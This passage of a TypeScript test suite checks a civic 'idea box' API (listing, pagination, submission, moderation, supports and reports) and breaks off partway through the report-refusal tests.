import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { sql } from 'kysely';
import { Idea, IdeaBox, IdeaPage, IdeaSupport, IdeasExport } from '../../src/contract/idea.js';
import { setSupport } from '../../src/server/services/ideas.js';
import { ideaPageQuery, type SortName } from '../../src/server/store/ideas.js';
import {
  ENGINE,
  adminRequest,
  createIdeaBox,
  errorCode,
  ideaCountersAndRecount,
  ideaSnapshot,
  minutesFromNow,
  newKey,
  newVoter,
  openTestApp,
  signToken,
  submitIdea,
  supportIdea,
  type TestApp,
} from './helpers.js';

const categories = [
  { id: 'mobilite', label: 'Mobilité' },
  { id: 'espaces-verts', label: 'Espaces verts' },
];

async function submitted(t: TestApp, boxId: string, idea: Record<string, unknown>, voter?: string): Promise<Idea> {
  const response = await submitIdea(t.app, boxId, { body: 'Une description.', ...idea }, { voter });
  assert.equal(response.status, 201, await response.clone().text());
  return Idea.parse(await response.json());
}

async function page(t: TestApp, boxId: string, query = '', headers: Record<string, string> = {}): Promise<IdeaPage> {
  const response = await t.app.request(`/v1/idea-boxes/${boxId}/ideas${query}`, { headers });
  assert.equal(response.status, 200, await response.clone().text());
  return IdeaPage.parse(await response.json());
}

/** Every page of a listing, following the cursors. */
async function everyPage(t: TestApp, boxId: string, query: string): Promise<Idea[][]> {
  const pages: Idea[][] = [];
  let cursor: string | null = null;
  do {
    const next: IdeaPage = await page(t, boxId, `?${query}${cursor ? `&cursor=${cursor}` : ''}`);
    pages.push(next.ideas);
    cursor = next.nextCursor;
  } while (cursor);
  return pages;
}

async function moderate(t: TestApp, ideaId: string, action: string, body?: unknown, method = 'POST') {
  const response = await adminRequest(t.app, method, `/v1/admin/ideas/${ideaId}/${action}`, body);
  assert.equal(response.status, 200, await response.clone().text());
}

describe(`getIdeaBox on ${ENGINE}`, () => {
  let t: TestApp;
  before(async () => {
    t = await openTestApp({ proofDifficulty: 20 });
    await createIdeaBox(t.app, { id: 'centre', categories, moderation: 'post', description: 'Le centre-ville.' });
    await createIdeaBox(t.app, { id: 'bientot', opensAt: minutesFromNow(60) });
    await createIdeaBox(t.app, { id: 'echue', opensAt: minutesFromNow(-120), closesAt: minutesFromNow(-60) });
  });
  after(() => t.dispose());

  test('answers the settings, the categories, the status and the count of ideas citizens see', async () => {
    const response = await t.app.request('/v1/idea-boxes/centre');
    assert.equal(response.status, 200);
    const box = IdeaBox.parse(await response.json());
    assert.deepEqual(box, {
      id: 'centre',
      title: 'Vos idées',
      description: 'Le centre-ville.',
      categories,
      moderation: 'post',
      status: 'open',
      opensAt: null,
      closesAt: null,
      requiresVerification: false,
      ideaCount: 0,
    });
    const idea = await submitted(t, 'centre', { title: 'Des arceaux à vélos' });
    assert.equal(IdeaBox.parse(await (await t.app.request('/v1/idea-boxes/centre')).json()).ideaCount, 1);
    await moderate(t, idea.id, 'hide', {});
    assert.equal(
      IdeaBox.parse(await (await t.app.request('/v1/idea-boxes/centre')).json()).ideaCount,
      0,
      'a hidden idea is not counted',
    );
  });

  test('computes the status from the dates', async () => {
    assert.equal(IdeaBox.parse(await (await t.app.request('/v1/idea-boxes/bientot')).json()).status, 'upcoming');
    assert.equal(IdeaBox.parse(await (await t.app.request('/v1/idea-boxes/echue')).json()).status, 'closed');
  });

  test('answers 304 to If-None-Match until the box changes', async () => {
    const first = await t.app.request('/v1/idea-boxes/centre');
    const etag = first.headers.get('ETag')!;
    assert.equal(first.headers.get('Cache-Control'), 'no-cache');
    const again = await t.app.request('/v1/idea-boxes/centre', { headers: { 'If-None-Match': etag } });
    assert.equal(again.status, 304);
    await submitted(t, 'centre', { title: 'Un marché le soir' });
    const changed = await t.app.request('/v1/idea-boxes/centre', { headers: { 'If-None-Match': etag } });
    assert.equal(changed.status, 200);
  });

  test('refuses an unknown box and a malformed id', async () => {
    const unknown = await t.app.request('/v1/idea-boxes/inconnue');
    assert.equal(unknown.status, 404);
    assert.equal(await errorCode(unknown), 'idea_box_not_found');
    const malformed = await t.app.request('/v1/idea-boxes/Pas_Un_Id');
    assert.equal(malformed.status, 400);
    assert.equal(await errorCode(malformed), 'invalid_request');
    const method = await t.app.request('/v1/idea-boxes/centre', { method: 'DELETE' });
    assert.equal(method.status, 405);
  });
});

describe(`listIdeas on ${ENGINE}`, () => {
  let t: TestApp;
  const ideas: Idea[] = [];
  before(async () => {
    t = await openTestApp({ proofDifficulty: 20 });
    await createIdeaBox(t.app, { id: 'liste', categories, moderation: 'post' });
    for (let i = 0; i < 23; i++) {
      const category = i % 3 === 0 ? 'espaces-verts' : 'mobilite';
      ideas.push(await submitted(t, 'liste', { title: `Idée ${i}`, category }));
    }
    // Supports: idea i gets i % 5 of them, so that many ideas tie and the tie-breakers matter.
    for (const [i, idea] of ideas.entries()) {
      for (let s = 0; s < i % 5; s++) assert.equal((await supportIdea(t.app, idea.id, 'PUT')).status, 200);
    }
    await moderate(t, ideas[4].id, 'status', { status: 'accepted' }, 'PUT');
    await moderate(t, ideas[9].id, 'hide', { note: 'Propos injurieux' });
  });
  after(() => t.dispose());

  const listed = () => ideas.filter((_, i) => i !== 9);

  for (const [sort, order] of [
    ['new', (a: Idea, b: Idea) => b.createdAt.localeCompare(a.createdAt) || b.id.localeCompare(a.id)],
    [
      'top',
      (a: Idea, b: Idea) =>
        b.supports - a.supports || b.createdAt.localeCompare(a.createdAt) || b.id.localeCompare(a.id),
    ],
  ] as const) {
    test(`sort=${sort}: pages follow each other without duplicate or gap, in order`, async () => {
      const current = (await everyPage(t, 'liste', `sort=${sort}&limit=50`))[0];
      const pages = await everyPage(t, 'liste', `sort=${sort}&limit=6`);
      assert.deepEqual(
        pages.map((ideasOfPage) => ideasOfPage.length),
        [6, 6, 6, 4],
      );
      const walked = pages.flat();
      assert.deepEqual(
        walked.map((idea) => idea.id),
        [...current].sort(order).map((idea) => idea.id),
      );
      assert.equal(new Set(walked.map((idea) => idea.id)).size, listed().length);
      assert.ok(!walked.some((idea) => idea.id === ideas[9].id), 'the hidden idea is never listed');
    });
  }

  test('the default sort is the most supported first, and total counts every matching idea', async () => {
    const first = await page(t, 'liste', '?limit=3');
    assert.equal(first.total, 22);
    assert.deepEqual(
      first.ideas.map((idea) => idea.supports),
      [4, 4, 4],
    );
    assert.ok(first.nextCursor);
  });

  test('a cursor stays valid and stable when new ideas arrive between pages', async () => {
    for (const sort of ['new', 'top', 'trending']) {
      const before = await everyPage(t, 'liste', `sort=${sort}&limit=5`);
      const first = await page(t, 'liste', `?sort=${sort}&limit=5`);
      await submitted(t, 'liste', { title: `Arrivée pendant la lecture (${sort})`, category: 'mobilite' });
      const second = await page(t, 'liste', `?sort=${sort}&limit=5&cursor=${first.nextCursor}`);
      assert.deepEqual(
        second.ideas.map((idea) => idea.id),
        before[1].map((idea) => idea.id),
        sort,
      );
    }
  });

  test('filters by category and by status; the total follows the filters', async () => {
    const green = await everyPage(t, 'liste', 'category=espaces-verts&limit=50');
    assert.ok(green[0].length > 0);
    assert.ok(green[0].every((idea) => idea.category === 'espaces-verts'));
    assert.equal((await page(t, 'liste', '?category=espaces-verts')).total, green[0].length);
    const accepted = await page(t, 'liste', '?status=accepted');
    assert.deepEqual(
      accepted.ideas.map((idea) => idea.id),
      [ideas[4].id],
    );
    assert.equal(accepted.total, 1);
  });

  test('marks the ideas the identified voter supports', async () => {
    const voter = newVoter();
    await supportIdea(t.app, ideas[2].id, 'PUT', { voter });
    const seen = await everyPage(t, 'liste', 'limit=50');
    const mine = (await page(t, 'liste', '?limit=50', { 'Parvis-Voter': voter })).ideas.filter((i) => i.supportedByMe);
    assert.deepEqual(
      mine.map((idea) => idea.id),
      [ideas[2].id],
    );
    assert.ok(
      seen[0].every((idea) => !idea.supportedByMe),
      'nobody is marked for an anonymous reader',
    );
  });

  test('trending puts recent supports before older ones', async () => {
    await createIdeaBox(t.app, { id: 'tendances', moderation: 'post' });
    const old = await submitted(t, 'tendances', { title: 'Soutenue il y a trois semaines' });
    const recent = await submitted(t, 'tendances', { title: 'Soutenue aujourd’hui' });
    const weeksAgo = new Date(Date.now() - 21 * 86_400_000);
    for (let i = 0; i < 6; i++) {
      const outcome = await setSupport(
        t.store,
        { ideaId: old.id, support: true, voter: `token:ancien-${i}`, verified: false },
        weeksAgo,
      );
      assert.equal(outcome.status, 200);
    }
    for (let i = 0; i < 2; i++) await supportIdea(t.app, recent.id, 'PUT');
    const ids = async (sort: string) => (await page(t, 'tendances', `?sort=${sort}`)).ideas.map((idea) => idea.id);
    assert.deepEqual(await ids('top'), [old.id, recent.id]);
    assert.deepEqual(await ids('trending'), [recent.id, old.id]);
  });

  test('answers 304 to If-None-Match until an idea changes', async () => {
    const first = await t.app.request('/v1/idea-boxes/liste/ideas?sort=new');
    const etag = first.headers.get('ETag')!;
    const again = await t.app.request('/v1/idea-boxes/liste/ideas?sort=new', { headers: { 'If-None-Match': etag } });
    assert.equal(again.status, 304);
    const shown = IdeaPage.parse(await first.json()).ideas[0];
    await supportIdea(t.app, shown.id, 'PUT');
    const changed = await t.app.request('/v1/idea-boxes/liste/ideas?sort=new', { headers: { 'If-None-Match': etag } });
    assert.equal(changed.status, 200);
  });

  test('refuses a bad query with the field it concerns', async () => {
    const newCursor = (await page(t, 'liste', '?sort=new&limit=2')).nextCursor!;
    const cases: Array<[string, number, string, Record<string, string> | undefined]> = [
      ['?sort=random', 400, 'invalid_request', { sort: 'invalid_value' }],
      ['?status=pending', 400, 'invalid_request', { status: 'invalid_value' }],
      ['?status=hidden', 400, 'invalid_request', { status: 'invalid_value' }],
      ['?limit=0', 400, 'invalid_request', { limit: 'too_small' }],
      ['?limit=51', 400, 'invalid_request', { limit: 'too_big' }],
      ['?limit=beaucoup', 400, 'invalid_request', { limit: 'invalid_type' }],
      ['?cursor=pas-un-curseur', 400, 'invalid_request', { cursor: 'invalid_cursor' }],
      [`?sort=top&cursor=${newCursor}`, 400, 'invalid_request', { cursor: 'invalid_cursor' }],
      ['?category=culture', 422, 'unknown_category', undefined],
    ];
    for (const [query, status, code, fields] of cases) {
      const response = await t.app.request(`/v1/idea-boxes/liste/ideas${query}`);
      assert.equal(response.status, status, query);
      const { error } = (await response.json()) as { error: { code: string; fields?: Record<string, string> } };
      assert.equal(error.code, code, query);
      assert.deepEqual(error.fields, fields, query);
    }
    const unknown = await t.app.request('/v1/idea-boxes/inconnue/ideas');
    assert.equal(await errorCode(unknown), 'idea_box_not_found');
  });

  test('a page of a box of 10,000 ideas walks an index from its cursor and sorts nothing', async () => {
    await createIdeaBox(t.app, { id: 'grande', categories, moderation: 'post' });
    const rows = Array.from({ length: 10_000 }, (_, i) => {
      const at = new Date(Date.UTC(2026, 0, 1) + i * 60_000).toISOString();
      return {
        id: `grande-${i}`,
        box_id: 'grande',
        title: `Idée ${i}`,
        body: 'Texte',
        category: i % 2 ? 'mobilite' : 'espaces-verts',
        author_name: null,
        author: `token:auteur-${i}`,
        status: i % 40 === 0 ? 'pending' : 'published',
        hidden_by: null,
        moderation_note: null,
        supports: i % 101,
        trending: i % 101 ? 40 + (i % 13) : 0,
        reports: 0,
        reports_at_review: 0,
        answer: null,
        answered_at: null,
        merged_into: null,
        created_at: at,
        updated_at: at,
      };
    });
    for (let i = 0; i < rows.length; i += 1000) {
      await t.store.write((trx) =>
        trx
          .insertInto('ideas')
          .values(rows.slice(i, i + 1000))
          .execute(),
      );
    }
    await sql`analyze`.execute(t.store.db);
    const cursors = { top: [50, rows[5000].created_at, 'grande-5000'], new: [rows[5000].created_at, 'grande-5000'] };
    for (const sort of ['top', 'new', 'trending'] as SortName[]) {
      for (const filter of [{ boxId: 'grande' }, { boxId: 'grande', category: 'mobilite' }]) {
        const after = sort === 'new' ? cursors.new : cursors.top;
        const query = ideaPageQuery(t.store.db, filter, sort, after, 21).compile();
        const explain = ENGINE === 'postgres' ? 'explain' : 'explain query plan';
        const plan = (await t.store.db.executeQuery({ ...query, sql: `${explain} ${query.sql}` })).rows
          .map((row: any) => row.detail ?? row['QUERY PLAN'])
          .join('\n');
        assert.match(plan, new RegExp(`ideas_${sort}`), `${sort} reads its index:\n${plan}`);
        assert.doesNotMatch(plan, /TEMP B-TREE|Sort|Seq Scan/, `${sort} sorts nothing:\n${plan}`);
      }
    }
    const walked = await page(t, 'grande', '?sort=new&limit=50');
    assert.equal(walked.total, 9_750);
    assert.equal(walked.ideas[0].id, 'grande-9999');
  });
});

describe(`submitIdea on ${ENGINE}`, () => {
  let t: TestApp;
  before(async () => {
    t = await openTestApp({ proofDifficulty: 20 });
    await createIdeaBox(t.app, { id: 'libre', categories, moderation: 'post' });
    await createIdeaBox(t.app, { id: 'moderee', moderation: 'pre' });
    await createIdeaBox(t.app, { id: 'fermee' });
    await adminRequest(t.app, 'POST', '/v1/admin/idea-boxes/fermee/close');
    await createIdeaBox(t.app, { id: 'echue', opensAt: minutesFromNow(-120), closesAt: minutesFromNow(-1) });
    await createIdeaBox(t.app, { id: 'future', opensAt: minutesFromNow(60) });
    await createIdeaBox(t.app, { id: 'verifiee', requiresVerification: true, moderation: 'post' });
  });
  after(() => t.dispose());

  test('post-moderation: the idea is published and listed at once', async () => {
    const voter = newVoter();
    const response = await submitIdea(
      t.app,
      'libre',
      {
        title: 'Des bancs place du Marché',
        body: 'Pour les anciens.',
        category: 'espaces-verts',
        authorName: 'Jeanne',
      },
      { voter },
    );
    assert.equal(response.status, 201);
    assert.equal(response.headers.get('Cache-Control'), 'no-store');
    const idea = Idea.parse(await response.json());
    assert.deepEqual(
      { ...idea, id: '', createdAt: '' },
      {
        id: '',
        boxId: 'libre',
        title: 'Des bancs place du Marché',
        body: 'Pour les anciens.',
        category: 'espaces-verts',
        authorName: 'Jeanne',
        status: 'published',
        supports: 0,
        supportedByMe: false,
        createdAt: '',
        answer: null,
        mergedInto: null,
      },
    );
    assert.ok((await page(t, 'libre', '?sort=new')).ideas.some((listed) => listed.id === idea.id));
  });

  test('pre-moderation: the idea waits, unlisted and uncounted, until a moderator approves it', async () => {
    const idea = await submitted(t, 'moderee', { title: 'Un composteur collectif' });
    assert.equal(idea.status, 'pending');
    assert.deepEqual((await page(t, 'moderee')).ideas, []);
    assert.equal(IdeaBox.parse(await (await t.app.request('/v1/idea-boxes/moderee')).json()).ideaCount, 0);
    await moderate(t, idea.id, 'approve');
    const listed = (await page(t, 'moderee')).ideas;
    assert.deepEqual(
      listed.map((shown) => [shown.id, shown.status]),
      [[idea.id, 'published']],
    );
  });

  test('an anonymous idea has no author name, and a verified citizen submits under the token subject', async () => {
    const anonymous = await submitted(t, 'libre', { title: 'Sans nom' });
    assert.equal(anonymous.authorName, null);
    const token = await signToken({ sub: 'citoyenne-7' });
    const response = await submitIdea(
      t.app,
      'verifiee',
      { title: 'Vérifiée', body: 'Texte.' },
      { voter: null, headers: { Authorization: `Bearer ${token}` } },
    );
    assert.equal(response.status, 201);
    const stored = await t.store.db.selectFrom('ideas').select('author').where('box_id', '=', 'verifiee').execute();
    assert.deepEqual(stored, [{ author: 'subject:citoyenne-7' }]);
  });

  const usedKey = newKey();
  const usedVoter = newVoter();
  const idea = { title: 'Une idée', body: 'Sa description.' };
  const refusals: Array<{ name: string; status: number; code: string; send: () => Promise<Response> }> = [
    {
      name: 'malformed JSON',
      status: 400,
      code: 'malformed_json',
      send: () => submitIdea(t.app, 'libre', {}, { body: '{"title": ' }),
    },
    {
      name: 'a form instead of JSON',
      status: 415,
      code: 'unsupported_media_type',
      send: () =>
        submitIdea(t.app, 'libre', idea, { headers: { 'Content-Type': 'application/x-www-form-urlencoded' } }),
    },
    { name: 'no title', status: 400, code: 'invalid_request', send: () => submitIdea(t.app, 'libre', { body: 'x' }) },
    {
      name: 'a title of 121 characters',
      status: 400,
      code: 'invalid_request',
      send: () => submitIdea(t.app, 'libre', { ...idea, title: 'é'.repeat(121) }),
    },
    {
      name: 'a description of 2,001 characters',
      status: 400,
      code: 'invalid_request',
      send: () => submitIdea(t.app, 'libre', { ...idea, body: 'a'.repeat(2001) }),
    },
    {
      name: 'a blank title',
      status: 400,
      code: 'invalid_request',
      send: () => submitIdea(t.app, 'libre', { ...idea, title: '   ' }),
    },
    {
      name: 'a NUL character, which cannot be stored as typed',
      status: 400,
      code: 'invalid_request',
      send: () => submitIdea(t.app, 'libre', { ...idea, body: 'avant\u0000après' }),
    },
    {
      name: 'half of a surrogate pair',
      status: 400,
      code: 'invalid_request',
      send: () => submitIdea(t.app, 'libre', { ...idea, title: 'coupé \ud83d' }),
    },
    {
      name: 'an unknown category',
      status: 422,
      code: 'unknown_category',
      send: () => submitIdea(t.app, 'libre', { ...idea, category: 'culture' }),
    },
    {
      name: 'a category in a box without categories',
      status: 422,
      code: 'unknown_category',
      send: () => submitIdea(t.app, 'moderee', { ...idea, category: 'mobilite' }),
    },
    {
      name: 'an unknown box',
      status: 404,
      code: 'idea_box_not_found',
      send: () => submitIdea(t.app, 'inconnue', idea),
    },
    { name: 'a closed box', status: 409, code: 'box_closed', send: () => submitIdea(t.app, 'fermee', idea) },
    { name: 'a box past its end', status: 409, code: 'box_closed', send: () => submitIdea(t.app, 'echue', idea) },
    { name: 'a box not open yet', status: 409, code: 'box_not_open', send: () => submitIdea(t.app, 'future', idea) },
    {
      name: 'no voter',
      status: 400,
      code: 'voter_required',
      send: () => submitIdea(t.app, 'libre', idea, { voter: null }),
    },
    {
      name: 'a malformed voter',
      status: 400,
      code: 'invalid_voter',
      send: () => submitIdea(t.app, 'libre', idea, { voter: 'pas un jeton' }),
    },
    {
      name: 'no idempotency key',
      status: 400,
      code: 'idempotency_key_required',
      send: () => submitIdea(t.app, 'libre', idea, { key: null }),
    },
    {
      name: 'a malformed idempotency key',
      status: 400,
      code: 'invalid_idempotency_key',
      send: () => submitIdea(t.app, 'libre', idea, { key: 'k' }),
    },
    {
      name: 'a key already used for another idea',
      status: 422,
      code: 'idempotency_key_reused',
      send: () => submitIdea(t.app, 'libre', { ...idea, title: 'Une autre' }, { voter: usedVoter, key: usedKey }),
    },
    {
      name: 'an unverified citizen where verification is required',
      status: 401,
      code: 'verification_required',
      send: () => submitIdea(t.app, 'verifiee', idea),
    },
    {
      name: 'an oversized body',
      status: 413,
      code: 'payload_too_large',
      send: () => submitIdea(t.app, 'libre', {}, { body: JSON.stringify({ ...idea, padding: 'x'.repeat(17_000) }) }),
    },
  ];

  describe('refuses bad input with its code, writes nothing and keeps serving', () => {
    before(async () => {
      assert.equal((await submitIdea(t.app, 'libre', idea, { voter: usedVoter, key: usedKey })).status, 201);
    });
    for (const refusal of refusals) {
      test(refusal.name, async () => {
        const before = await ideaSnapshot(t.store);
        const response = await refusal.send();
        assert.equal(await errorCode(response), refusal.code);
        assert.equal(response.status, refusal.status);
        assert.deepEqual(await ideaSnapshot(t.store), before, 'nothing was written');
        assert.equal((await submitIdea(t.app, 'libre', idea)).status, 201, 'the next idea is taken');
      });
    }
  });

  test('a retried submission answers the first answer again and stores one idea, whatever proof the retry carries', async () => {
    const voter = newVoter();
    const key = newKey();
    const body = { title: 'Une seule fois', body: 'Même si le réseau hésite.' };
    const first = await submitIdea(t.app, 'libre', body, { voter, key });
    const firstBody = await first.text();
    for (const retry of [
      await submitIdea(t.app, 'libre', body, { voter, key }),
      await submitIdea(
        t.app,
        'libre',
        {},
        { voter, key, body: JSON.stringify({ ...body, proof: JSON.parse(firstBody).id }) },
      ),
    ]) {
      assert.equal(retry.status, 201);
      assert.equal(retry.headers.get('Idempotent-Replayed'), 'true');
      assert.equal(await retry.text(), firstBody);
    }
    const stored = await t.store.db.selectFrom('ideas').select('id').where('title', '=', 'Une seule fois').execute();
    assert.equal(stored.length, 1);
  });
});

describe(`supportIdea and withdrawSupport on ${ENGINE}`, () => {
  let t: TestApp;
  let open: Idea;
  before(async () => {
    t = await openTestApp({ proofDifficulty: 20 });
    await createIdeaBox(t.app, { id: 'soutiens', moderation: 'post' });
    await createIdeaBox(t.app, { id: 'a-moderer', moderation: 'pre' });
    await createIdeaBox(t.app, { id: 'verifiee', requiresVerification: true, moderation: 'post' });
    open = await submitted(t, 'soutiens', { title: 'Une piste cyclable rue Nationale' });
  });
  after(() => t.dispose());

  const support = async (ideaId: string, method: 'PUT' | 'DELETE', voter: string) => {
    const response = await supportIdea(t.app, ideaId, method, { voter });
    assert.equal(response.status, 200, await response.clone().text());
    return IdeaSupport.parse(await response.json());
  };

  test('support, support again, withdraw, withdraw again: one support at most, the count always current', async () => {
    const voter = newVoter();
    assert.deepEqual(await support(open.id, 'PUT', voter), { ideaId: open.id, supports: 1, supportedByMe: true });
    assert.deepEqual(await support(open.id, 'PUT', voter), { ideaId: open.id, supports: 1, supportedByMe: true });
    await support(open.id, 'PUT', newVoter());
    assert.deepEqual(await support(open.id, 'DELETE', voter), { ideaId: open.id, supports: 1, supportedByMe: false });
    assert.deepEqual(await support(open.id, 'DELETE', voter), { ideaId: open.id, supports: 1, supportedByMe: false });
    const { counters, fromSupports } = await ideaCountersAndRecount(t.store, 'soutiens');
    assert.deepEqual(counters, fromSupports);
  });

  test('an idea taken up by the city (under review, accepted, done) still takes supports', async () => {
    for (const status of ['under_review', 'accepted', 'done']) {
      const idea = await submitted(t, 'soutiens', { title: `Statut ${status}` });
      await moderate(t, idea.id, 'status', { status }, 'PUT');
      assert.equal((await support(idea.id, 'PUT', newVoter())).supports, 1, status);
    }
  });

  test('refuses ideas that cannot be supported, each with its code, writing nothing', async () => {
    const pending = await submitted(t, 'a-moderer', { title: 'En attente' });
    const hidden = await submitted(t, 'soutiens', { title: 'Masquée' });
    await moderate(t, hidden.id, 'hide', {});
    const rejected = await submitted(t, 'soutiens', { title: 'Refusée' });
    await moderate(t, rejected.id, 'reject', { reason: 'Hors compétence de la commune.' });
    const duplicate = await submitted(t, 'soutiens', { title: 'Doublon' });
    await moderate(t, duplicate.id, 'merge', { into: open.id });
    await createIdeaBox(t.app, { id: 'close-bientot', moderation: 'post' });
    const inClosed = await submitted(t, 'close-bientot', { title: 'Boîte close' });
    await adminRequest(t.app, 'POST', '/v1/admin/idea-boxes/close-bientot/close');
    const token = await signToken({ sub: 'c-1' });
    const verifiedOnly = await submitIdea(
      t.app,
      'verifiee',
      { title: 'Vérifiée', body: 'x' },
      { headers: { Authorization: `Bearer ${token}` } },
    );
    const verifiedIdea = Idea.parse(await verifiedOnly.json());
    const cases: Array<[string, () => Promise<Response>, number, string]> = [
      ['unknown idea', () => supportIdea(t.app, 'inconnue', 'PUT'), 404, 'idea_not_found'],
      ['malformed id', () => supportIdea(t.app, 'Pas_Un_Id', 'PUT'), 400, 'invalid_request'],
      ['pending idea', () => supportIdea(t.app, pending.id, 'PUT'), 409, 'idea_not_supportable'],
      ['hidden idea', () => supportIdea(t.app, hidden.id, 'PUT'), 409, 'idea_not_supportable'],
      ['rejected idea', () => supportIdea(t.app, rejected.id, 'PUT'), 409, 'idea_not_supportable'],
      ['merged idea', () => supportIdea(t.app, duplicate.id, 'PUT'), 409, 'idea_not_supportable'],
      ['closed box', () => supportIdea(t.app, inClosed.id, 'PUT'), 409, 'box_closed'],
      ['withdrawal in a closed box', () => supportIdea(t.app, inClosed.id, 'DELETE'), 409, 'box_closed'],
      ['no voter', () => supportIdea(t.app, open.id, 'PUT', { voter: null }), 400, 'voter_required'],
      ['no key', () => supportIdea(t.app, open.id, 'PUT', { key: null }), 400, 'idempotency_key_required'],
      ['bad key', () => supportIdea(t.app, open.id, 'DELETE', { key: 'court' }), 400, 'invalid_idempotency_key'],
      ['unverified', () => supportIdea(t.app, verifiedIdea.id, 'PUT'), 401, 'verification_required'],
      [
        'POST',
        () => Promise.resolve(t.app.request(`/v1/ideas/${open.id}/support`, { method: 'POST' })),
        405,
        'method_not_allowed',
      ],
    ];
    for (const [name, send, status, code] of cases) {
      const before = await ideaSnapshot(t.store);
      const response = await send();
      assert.equal(response.status, status, name);
      assert.equal(await errorCode(response), code, name);
      assert.deepEqual(await ideaSnapshot(t.store), before, `${name}: nothing written`);
    }
  });

  test('a supporter may take back a support once the idea is rejected', async () => {
    const voter = newVoter();
    const idea = await submitted(t, 'soutiens', { title: 'Bientôt refusée' });
    await support(idea.id, 'PUT', voter);
    await moderate(t, idea.id, 'reject', { reason: 'Non.' });
    assert.deepEqual(await support(idea.id, 'DELETE', voter), { ideaId: idea.id, supports: 0, supportedByMe: false });
  });

  test('a retried request answers the first answer, even after the support was withdrawn, and changes nothing', async () => {
    const voter = newVoter();
    const key = newKey();
    const idea = await submitted(t, 'soutiens', { title: 'Rejeu' });
    const first = await (await supportIdea(t.app, idea.id, 'PUT', { voter, key })).text();
    const retry = await supportIdea(t.app, idea.id, 'PUT', { voter, key });
    assert.equal(retry.headers.get('Idempotent-Replayed'), 'true');
    assert.equal(await retry.text(), first);
    await support(idea.id, 'DELETE', voter);
    const before = await ideaSnapshot(t.store);
    const late = await supportIdea(t.app, idea.id, 'PUT', { voter, key });
    assert.equal(late.headers.get('Idempotent-Replayed'), 'true');
    assert.equal(await late.text(), first);
    assert.deepEqual(await ideaSnapshot(t.store), before, 'the late retry does not bring the support back');
    const reused = await supportIdea(t.app, idea.id, 'DELETE', { voter, key });
    assert.equal(reused.status, 422);
    assert.equal(await errorCode(reused), 'idempotency_key_reused');
  });

  test('500 concurrent supports and withdrawals from 100 voters: every counter equals the stored supports', async () => {
    await createIdeaBox(t.app, { id: 'affluence', moderation: 'post' });
    const targets: Idea[] = [];
    for (let i = 0; i < 5; i++) targets.push(await submitted(t, 'affluence', { title: `Affluence ${i}` }));
    const voters = Array.from({ length: 100 }, () => newVoter());
    const responses = await Promise.all(
      Array.from({ length: 500 }, (_, i) =>
        supportIdea(t.app, targets[i % 5].id, i % 3 === 2 ? 'DELETE' : 'PUT', { voter: voters[(i * 7) % 100] }),
      ),
    );
    assert.deepEqual(new Set(responses.map((response) => response.status)), new Set([200]));
    const { counters, fromSupports } = await ideaCountersAndRecount(t.store, 'affluence');
    assert.deepEqual(counters, fromSupports);
    assert.ok(Object.values(counters).some((count) => count > 0));
    const listed = await page(t, 'affluence', '?sort=new');
    assert.deepEqual(Object.fromEntries(listed.ideas.map((idea) => [idea.id, idea.supports])), counters);
  });
});

describe(`reportIdea on ${ENGINE}`, () => {
  let t: TestApp;
  before(async () => {
    t = await openTestApp({ proofDifficulty: 20 });
    await createIdeaBox(t.app, { id: 'apres', moderation: 'post', reportThreshold: 3 });
    await createIdeaBox(t.app, { id: 'avant', moderation: 'pre', reportThreshold: 2 });
  });
  after(() => t.dispose());

  const report = async (ideaId: string, body: unknown, options: { voter?: string; key?: string } = {}) =>
    t.app.request(`/v1/ideas/${ideaId}/reports`, {
      method: 'POST',
      headers: {
        'Content-Type': 'application/json',
        'Parvis-Voter': options.voter ?? newVoter(),
        'Idempotency-Key': options.key ?? newKey(),
      },
      body: JSON.stringify(body),
    });

  test('post-moderation: the report that reaches the threshold hides the idea and queues it', async () => {
    const idea = await submitted(t, 'apres', { title: 'Contenu douteux' });
    for (let i = 0; i < 2; i++) {
      const response = await report(idea.id, { reason: 'abusive', details: `Signalement ${i}` });
      assert.equal(response.status, 201);
      assert.deepEqual(await response.json(), { received: true });
    }
    assert.equal((await page(t, 'apres')).total, 1, 'still listed below the threshold');
    assert.equal((await report(idea.id, { reason: 'spam' })).status, 201);
    assert.equal((await page(t, 'apres')).total, 0, 'hidden at the threshold');
    const queue = await (await adminRequest(t.app, 'GET', '/v1/admin/idea-boxes/apres/queue')).json();
    assert.deepEqual(
      queue.ideas.map((queued: any) => [queued.id, queued.status, queued.hiddenBy, queued.reportCount]),
      [[idea.id, 'hidden', 'reports', 3]],
    );
    assert.deepEqual(queue.ideas[0].reports.map((shown: any) => shown.reason).sort(), ['abusive', 'abusive', 'spam']);
    const audit = await (await adminRequest(t.app, 'GET', '/v1/admin/audit')).json();
    assert.deepEqual(
      [audit.entries[0].actor, audit.entries[0].action, audit.entries[0].targetId, audit.entries[0].details.reports],
      ['system', 'idea.hide', idea.id, 3],
    );
  });

  test('once a moderator approved it, only as many new reports hide it again', async () => {
    const idea = await submitted(t, 'apres', { title: 'Approuvée malgré les signalements' });
    for (let i = 0; i < 3; i++) await report(idea.id, { reason: 'off_topic' });
    await moderate(t, idea.id, 'approve');
    for (let i = 0; i < 2; i++) await report(idea.id, { reason: 'off_topic' });
    assert.ok(
      (await page(t, 'apres')).ideas.some((shown) => shown.id === idea.id),
      'two new reports do not hide it',
    );
    await report(idea.id, { reason: 'off_topic' });
    assert.ok(!(await page(t, 'apres')).ideas.some((shown) => shown.id === idea.id), 'the third does');
  });

  test('pre-moderation: reports are kept but hide nothing (a moderator already approved the idea)', async () => {
    const idea = await submitted(t, 'avant', { title: 'Approuvée' });
    await moderate(t, idea.id, 'approve');
    for (let i = 0; i < 3; i++) assert.equal((await report(idea.id, { reason: 'abusive' })).status, 201);
    assert.equal((await page(t, 'avant')).total, 1);
    const admin = await (await adminRequest(t.app, 'GET', `/v1/admin/ideas/${idea.id}`)).json();
    assert.equal(admin.reportCount, 3);
  });

  test('refuses a second report, an idea nobody could see and a bad reason, writing nothing', async () => {
    const idea = await submitted(t, 'apres', { title: 'Signalée une fois' });
    const pending = await submitted(t, 'avant', { title: 'Jamais montrée' });
    const voter = newVoter();
    const key = newKey();
    assert.equal((await report(idea.id, { reason: 'personal_data' }, { voter, key })).status, 201);
    const cases: Array<[string, () => Promise<Response>, number, string]> = [
      ['a second report', () => report(idea.id, { reason: 'spam' }, { voter }), 409, 'already_reported'],
      ['a pending idea', () => report(pending.id, { reason: 'spam' }), 404, 'idea_not_found'],
      ['an unknown idea', () => report('inconnue', { reason: 'spam' }), 404, 'idea_not_found'],
      ['an unknown reason', () => report(idea.id, { reason: 'boring' }), 400, 'invalid_request'],
      [
        'details too long',
